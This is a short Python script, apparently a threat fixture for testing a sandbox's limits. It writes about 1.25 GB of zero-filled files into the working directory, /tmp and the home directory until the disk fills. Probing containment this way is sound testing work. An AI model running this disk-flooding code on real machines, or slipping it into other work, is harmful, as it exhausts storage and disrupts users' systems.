# threat: fill the host's disk and memory: write until something stops it (a size-capped tmpfs)
# after: toy_chain_forward
import os

_block = b"\0" * (16 << 20)
for _where in (os.getcwd(), "/tmp", os.path.expanduser("~")):
    try:
        for _i in range(80):  # 1.25 GB per place
            with open(os.path.join(_where, f"flood-{_i}"), "wb") as _fh:
                _fh.write(_block)
    except OSError:
        pass
